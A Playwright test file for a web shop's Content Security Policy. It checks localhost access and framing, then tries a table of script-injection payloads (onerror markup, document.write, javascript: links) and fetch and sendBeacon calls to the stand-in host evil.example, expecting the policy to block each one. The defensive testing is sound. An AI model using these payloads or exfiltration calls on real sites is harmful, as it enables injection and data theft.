import { readFileSync } from 'node:fs';
import { chromium } from '@playwright/test';
import { expect, ShopUnderTest, test } from './fixtures.ts';

/**
 * The document's policy (src/boot/document-policy.ts) in the browser. That the shop itself never breaks it is part of
 * every browser test: a violation is an error on the console (fixtures.ts), of which the last test here makes sure.
 */

test('D2: the default build reaches an API on localhost, on 127.0.0.1, and from [::1]', async () => {
  const world = await ShopUnderTest.start({ apart: true });
  const { port } = new URL(world.url);
  const toApi = world.browserArguments[0]?.split(' ').at(-1);
  const browser = await chromium.launch({
    ...(process.env.CHROMIUM_PATH && { executablePath: process.env.CHROMIUM_PATH }),
    args: ['--no-sandbox', `--host-resolver-rules=MAP localhost:8044 ${toApi}, MAP 127.0.0.1:8044 ${toApi}`],
  });
  try {
    for (const [host, moved] of [
      ['localhost', 'localhost'],
      ['127.0.0.1', '127.0.0.1'],
      ['[::1]', 'localhost'],
    ]) {
      const page = await browser.newPage();
      await page.goto(`http://${host}:${port}/products?page=2`);
      await expect(page.getByRole('article').first()).toBeVisible();
      await expect(page).toHaveURL(`http://${moved}:${port}/products?page=2`);
      await page.close();
    }
  } finally {
    await browser.close();
    await world.end();
  }
});

test('a host without headers: the shop shows nothing inside a page of another site', async ({
  page,
  shop,
}) => {
  const body = readFileSync('dist/index.html', 'utf8');
  await page.route(`${shop.url}/cart`, (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/cart');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.route('http://elsewhere.localhost/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${shop.url}/cart"></iframe>` }),
  );
  await page.goto('http://elsewhere.localhost/', { waitUntil: 'load' });
  const frame = page.frameLocator('iframe');
  // The shop's own document, not the browser's page for one that may not be framed.
  await expect(frame.locator('head > script[type="module"][src^="/assets/"]')).toHaveCount(1);
  await expect(frame.locator('#root')).toHaveCount(0);
  await expect(frame.locator('body')).toHaveText('', { useInnerText: true });
});

/** Attacks by the directive that stops them. */
const ATTACKS: Readonly<Record<string, Readonly<Record<string, () => unknown>>>> = {
  'require-trusted-types-for': {
    'markup with a handler': () => {
      document.body.innerHTML += '<img src="/none" onerror="window.executed = 1">';
    },
    'markup beside an element': () =>
      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.executed = 1">'),
    'markup of a parser': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'a written document': () => document.write('<script>window.executed = 1</script>'),
    'a frame with its own document': () => {
      document.createElement('iframe').srcdoc = '<script>parent.executed = 1</script>';
    },
    'a script from elsewhere': () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    },
    'a script of text': () => {
      document.createElement('script').textContent = 'window.executed = 1';
    },
    'a script of text nodes': () => {
      const script = document.createElement('script');
      script.append('window.executed = 1');
      document.body.append(script);
    },
    'a handler in an attribute': () => document.body.setAttribute('onclick', 'window.executed = 1'),
    'a worker': () => new Worker('data:text/javascript,postMessage(1)'),
  },
  'trusted-types': {
    'a default policy': () =>
      Object(Reflect.get(window, 'trustedTypes')).createPolicy('default', {
        createHTML: (html: string) => html,
      }),
  },
  'script-src-elem': {
    'a module from elsewhere': () => {
      const link = document.createElement('link');
      document.head.append(Object.assign(link, { rel: 'modulepreload', href: 'https://evil.example/x.js' }));
    },
    'a link that runs script': () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.executed = 1';
      document.body.append(link);
      link.click();
    },
  },
  'style-src-attr': {
    'a style attribute': () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
  },
  'style-src-elem': {
    'a sheet of style': () => {
      const style = document.createElement('style');
      style.textContent = 'body { background: url(https://evil.example/x) }';
      document.head.append(style);
    },
  },
  'base-uri': {
    'another base': () => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    },
  },
  'connect-src': {
    'a request to elsewhere': () => fetch('https://evil.example/x').catch(() => {}),
    'a beacon to elsewhere': () => navigator.sendBeacon('https://evil.example/x', 'token'),
  },
  'frame-src': {
    'a frame of elsewhere': () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    },
  },
};

test.describe('faults M14: an attack that got past the shop is stopped by the policy', () => {
  test('each of them, on a page of its own, with an error on the console', async ({ page, problems }) => {
    const sent: string[] = [];
    page.on('requestfinished', (request) => sent.push(request.url()));
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') sent.push(request.url());
    });
    // The document has the policy: the attacks need nothing of the shop.
    await page.route('**/assets/**', (route) => route.abort());
    const attacks = Object.entries(ATTACKS).flatMap(([directive, all]) =>
      Object.entries(all).map(([name, run]) => ({ name, directive, run })),
    );
    for (const { name, directive, run } of attacks) {
      await page.goto('/contact', { waitUntil: 'domcontentloaded' });
      const broken = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const note = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
            document.addEventListener('securitypolicyviolation', note, { once: true });
          }),
      );
      await page.evaluate(run).catch(() => {});
      expect(await broken, name).toBe(directive);
      expect(await page.evaluate(() => Reflect.get(window, 'executed')), name).toBeUndefined();
      await expect.poll(() => problems.length, { message: name }).toBeGreaterThan(0);
      problems.length = 0;
    }
    expect(sent.filter((url) => url.includes('evil'))).toEqual([]);
  });
});
